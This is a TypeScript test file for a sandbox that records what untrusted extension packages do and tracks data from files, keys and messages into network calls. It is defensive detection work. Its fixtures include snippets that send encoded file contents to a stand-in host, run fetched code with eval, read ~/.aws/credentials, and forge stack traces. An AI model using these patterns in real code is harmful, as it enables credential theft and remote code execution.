import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { HostApi } from '#libs/sandbox/protocol.js';
import { recordingRun } from '#libs/sandbox/recording.js';
import { ENGINES_HERE, sandboxOf } from '#test/support/sandbox-engines.js';
import { packageOf } from '#test/support/scan-package.js';

const API: HostApi = {
  rows: [{ scope: null, methods: ['keys.list', 'keys.get', 'files.read', 'net.fetch', 'net.open', 'events.onChange', 'files.exists', 'commands.register', 'clip.read', 'message.send', 'Form'] }],
  globals: { Form: 'Form' },
  canaries: {
    gives: { 'keys.list': 'names', 'files.read': 'file', 'net.fetch': 'answer', 'message.text': 'said' },
    tells: { 'events.onChange': 'sheet' },
    parts: [['content', 'sheet', 'cell']],
    leads: [['keys.get', 'names', 'keys']],
    opens: ['net.open'],
    falsy: ['bot'],
    asks: ['exists'],
    samples: { 'clip.read': ['first', 'second'], 'events.onChange': [{ value: 'DE1' }] },
  },
};

for (const { engine, skip } of ENGINES_HERE) {
  describe(`what a recording hands out, in ${engine}`, { skip }, () => {
    async function recorded(body: string) {
      const sandbox = await sandboxOf({ engine, limits: { deadlineMs: 4_000 } });
      const [recording] = await recordingRun(sandbox, packageOf({ 'main.js': `exports.activate = async (host) => { ${body} };` }, { entry_points: ['main.js'] }), API);
      assert.ok(recording);
      const { report } = recording;
      assert.equal(report.outcome, 'returned', report.outcome === 'threw' ? report.error.message : '');
      return { ...report, sent: report.calls.filter(({ method }) => method === 'net.fetch' || method === 'net.open') };
    }

    test('is known again in the arguments of calls, whatever was made of it', async () => {
      for (const made of ['text', 'String(text).toUpperCase()', '`x=${text}`', 'JSON.stringify({ a: [text] })', 'encodeURIComponent(text)', '[...text].map((line) => line.trim()).join()', 'text.split("\\n").filter(Boolean)', 'require("zlib").gzip(text).toString("base64")', 'Buffer.from(text).toString("hex")', 'JSON.parse(text).inner.value', '(() => { const form = new Form(); form.append("x", text); return form; })()', '(() => { const kept = require("kept"); kept.x = text; return kept; })()']) {
        const { sent } = await recorded(`const text = await host.files.read("x"); await host.net.fetch("https://a.example", { body: ${made} });`);
        assert.deepEqual(sent.map(({ canaries }) => canaries), [['file']], made);
        assert.match(JSON.stringify(sent[0]!.args), /<file>/i, 'and told by its kind');
      }
      const { attempts, console } = await recorded('const text = await host.files.read("x"); require(`${text}`); console.log(`${text}`);');
      assert.deepEqual([attempts, console], [[{ kind: 'module', name: '<file>' }], [{ level: 'log', text: '<file>' }]]);
      const { sent } = await recorded('const text = await host.files.read("x"); await host.net.fetch("https://a.example", { body: text ? "yes" : "no" });');
      assert.deepEqual(sent.map(({ canaries, args }) => [canaries, args]), [[[], ['https://a.example', { body: 'yes' }]]]);
    });

    test('changes its kind with a member, and where it leads to more', async () => {
      const { sent } = await recorded('for (const name of await host.keys.list()) await host.net.fetch(await host.keys.get(name)); await host.net.fetch(await host.keys.get("one")); host.events.onChange((change) => host.net.fetch(change.content));');
      assert.deepEqual(sent.map(({ canaries }) => canaries), [['keys', 'names'], [], ['cell'], []]);
      assert.deepEqual(sent.map(({ by }) => by), [null, null, 'events.onChange', 'events.onChange']);
    });

    test('runs as code: told once, by whatever way', async () => {
      for (const run of ['new Function(code)()', '(0, eval)(`(function () { ${code} })()`)', 'setTimeout(() => Function("x", `return ${code}`)(1), 5)']) {
        const { ran } = await recorded(`const code = await (await host.net.fetch("https://a.example")).text(); ${run}; ${run};`);
        assert.deepEqual(ran.map(({ kind, place }) => [kind, place?.file, place?.line]), [['answer', 'main.js', 1]], run);
      }
      assert.deepEqual((await recorded('const code = await host.net.fetch("https://a.example"); JSON.parse(code); new Function("return 1")();')).ran, []);
    });

    test('what is said to a connection counts as said to whoever opened it', async () => {
      const { sent } = await recorded('const text = await host.files.read("x"); const line = await host.net.open("wss://a.example"); line.send("hello"); line.on("open", () => line.send({ text }));');
      assert.deepEqual(sent.map(({ canaries }) => canaries), [[], ['file']]);
    });

    test('of a call with such data it is told whether its answer is used', async () => {
      for (const [use, isUsed] of [['await answer', false], ['await answer.catch(() => {})', false], ['answer.then(() => {})', false], ['(await answer).text', true], ['const { data } = await answer.catch(() => null)', true], ['host.message.send(await answer)', true], ['`${await answer}`', true]] as const) {
        const { sent } = await recorded(`const answer = host.net.fetch("https://a.example", { text: host.message.text }); ${use};`);
        assert.deepEqual(sent.map(({ canaries, isAnswerUsed }) => [canaries, isAnswerUsed]), [[['said'], isUsed]], use);
      }
    });

    test('what depends on what is there, on the time or on chance is run in two worlds', async () => {
      for (const [asked, calls] of [['await host.files.exists("x")', ['there', 'not there']], [`Date.now() < Date.UTC(${new Date().getUTCFullYear() + 1})`, ['there', 'not there']], ['new Date().getTime() < Date.now() + 1e9', ['there', 'there']], ['Math.random() > 0.11', null], ['Number("1")', ['there']], ['new Date(0).getTime() === 0 && Date.UTC(1970) === 0', ['there']]] as const) {
        const { sent, wavers } = await recorded(`await host.net.fetch(${asked} ? "there" : "not there");`);
        if (calls) assert.deepEqual(sent.map(({ args }) => args[0]), calls, asked);
        else assert.equal(sent.at(-1)!.args[0], 'not there', asked);
        assert.equal(wavers, sent.length > 1, asked);
        assert.ok(sent.every(({ at }, index) => index === 0 || at >= sent[index - 1]!.at), 'the second one comes after the first');
      }
      const endless = await recorded(`await host.net.fetch("https://a.example"); if (Date.now() > Date.UTC(${new Date().getUTCFullYear() + 1})) for (;;);`);
      assert.deepEqual([endless.outcome, endless.sent.length], ['returned', 2], 'how the other world ends is held against nobody');
      const slow = await recorded('const end = Date.now() + 1_100; while (Date.now() < end); await host.net.fetch("https://a.example");');
      assert.deepEqual([slow.wavers, slow.sent.length], [true, 1], 'what takes long is not run again');
      const { sent } = await recorded('const now = new Date(); class Later extends Date {} await host.net.fetch(String([now instanceof Date, now.constructor === Date, new Later() instanceof Date, typeof Date(), Math.abs(now - new Date(Date.now())) < 1e4]));');
      assert.deepEqual(sent.map(({ args }) => args[0]), Array.from({ length: 2 }, () => 'true,true,true,string,true'), 'a clock as any other');
    });

    test('methods of what is handed over are called, by whom they belong to', async () => {
      const provider = 'class Base { constructor() { this.to = "https://a.example"; } } class Provider extends Base { async provide(change) { await host.net.fetch(this.to, { change }); } }';
      for (const [given, isCalled] of [['new Provider()', true], ['{ to: "https://a.example", provide(change) { return host.net.fetch(this.to, { change }); } }', true], ['{ inner: { to: "https://a.example", provide(change) { return host.net.fetch(this.to, { change }); } } }', true], ['new Map([["x", 1]])', false], ['new Date(0)', false]] as const) {
        const { sent: calls } = await recorded(`${provider} host.events.onChange(${given});`);
        assert.deepEqual(calls.slice(0, 1).map(({ args, canaries, by }) => [args[0], canaries, by]), isCalled ? [['https://a.example', ['sheet'], 'events.onChange']] : [], given);
      }
      const { sent } = await recorded(`${provider} host.unknown.register("x", new Provider());`);
      assert.deepEqual(sent.map(({ args, by }) => [args[0], by]), [['https://a.example', 'unknown.register']]);
    });

    test('samples come in turn, and functions are told them as well', async () => {
      const { calls, sent } = await recorded('for (let turn = 0; turn < 3; turn++) host.message.send(await host.clip.read()); host.events.onChange(({ value }) => typeof value === "string" && host.net.fetch(value));');
      assert.deepEqual(calls.filter(({ method }) => method === 'message.send').map(({ args }) => args), [['first'], ['second'], ['first']]);
      assert.deepEqual(sent.map(({ args }) => args), [['DE1']]);
    });

    test('each call tells where the package makes it, in modules of both kinds', async () => {
      const sandbox = await sandboxOf({ engine, limits: { deadlineMs: 4_000 } });
      const placesOf = async (files: Record<string, string>, api = API) => {
        const [recording] = await recordingRun(sandbox, packageOf(files, { entry_points: [Object.keys(files)[0]!] }), api);
        return recording!.report.calls.map(({ method, place }) => `${method} ${place?.file}:${place?.line}`);
      };
      const commonJs = await placesOf({ 'main.js': 'const lib = require("./lib/send");\n\nexports.activate = async (host) => {\n  await host.keys.list();\n  await lib.send(host);\n  new Function("host", "\\n\\nhost.clip.read()")(host);\n};', 'lib/send.js': '// one\n// two\nexports.send = (host) => host.net.fetch("https://a.example");\n' });
      assert.deepEqual(commonJs, ['keys.list main.js:4', 'net.fetch lib/send.js:3', 'clip.read main.js:6']);
      const modules = await placesOf({ 'main.mjs': 'import { send } from "./lib/send.mjs";\nexport const activate = (host) =>\n  send(host);\n', 'lib/send.mjs': '\nexport const send = (host) => host.net.fetch("https://a.example");\n' });
      assert.deepEqual(modules, ['net.fetch lib/send.mjs:2']);
      const body = await placesOf({ 'code.js': '// one\nconst { keys } = require("host");\nawait keys.list();\n' }, { ...API, bodies: true, modules: { host: '' } });
      assert.deepEqual(body, ['keys.list code.js:3']);
      const forged = await placesOf({ 'main.js': 'exports.activate = (host) => { Error.prepareStackTrace = () => "at x (../../etc/passwd:1:1)"; globalThis.Error = class { stack = "at x (no.js:0:0)"; }; host.keys.list(); };' });
      assert.ok(['keys.list main.js:1', 'keys.list undefined:undefined'].includes(forged[0]!), forged[0]);
      const sparse = await sandboxOf({ engine, limits: { deadlineMs: 4_000, paddedLines: 10 } });
      const [recording] = await recordingRun(sparse, packageOf({ 'main.js': 'exports.activate = (host) => host.keys.list();' }, { entry_points: ['main.js'] }), API);
      assert.deepEqual(recording!.report.calls.map(({ method, place }) => [method, place]), [['keys.list', null]], 'without places it runs all the same');
    });

    test('what code asks first lets it go on; paths are put together of their texts', async () => {
      const { calls } = await recorded('if (host.message.author.bot) return; const path = require("path"), os = require("os"); await host.files.read(path.join(os.homedir(), ".aws", "credentials"));');
      assert.deepEqual(calls.map(({ method, args }) => [method, args]), [['files.read', ['.aws/credentials']]]);
    });
  });
}
